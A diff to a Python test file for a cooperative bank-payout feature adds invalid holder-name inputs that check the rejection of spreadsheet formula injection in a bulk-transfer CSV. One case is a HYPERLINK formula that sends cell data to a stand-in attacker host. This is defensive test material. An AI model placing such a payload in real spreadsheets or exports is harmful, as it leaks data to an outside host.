@@ -3,9 +3,6 @@ batches (verified accounts, balance at least the threshold, never more than the 
 
 from __future__ import annotations
 
-import csv
-import io
-
 import pytest
 from sqlalchemy import select
 
@@ -90,6 +87,11 @@ def test_the_owner_sets_the_account_staff_verify_it_and_a_change_resets_it(app, 
         {"account_number": "12345"},
         {"holder_name": "   "},
         {"holder_name": "A" * 121},
+        # A spreadsheet formula in the bulk-transfer CSV (found by a probe on 2026-12-06).
+        {"holder_name": '=HYPERLINK("http://evil.example/?x="&A1,"HTX")'},
+        {"holder_name": "@SUM(A1)"},
+        {"holder_name": "-1+1"},
+        {"holder_name": "HTX <b>"},
     ):
         values = {"bank_bin": VCB, "account_number": "0011223344", "holder_name": "Lan"} | bad
         with pytest.raises(InvalidInput):
@@ -201,14 +203,14 @@ def test_a_batch_pays_verified_cooperatives_over_the_threshold(app, db, make):
     with pytest.raises(InvalidInput):
         payouts.create_payout_batch(actor=admin, threshold=200_000)
 
-    rows = list(csv.reader(io.StringIO(payouts.payout_batch_csv(batch.id).lstrip("\ufeff"))))
+    rows = payouts.payout_batch_rows(batch.id)
     assert rows[1] == [
-        "1",
+        1,
         VCB,
         "Vietcombank",
         "0011223344",
         "HTX VAI THIEU",
-        "750000",
+        750_000,
         payout.transfer_content,
     ]
     assert rows[0][0] == "STT" and len(rows) == 2  # headers in the shop's language
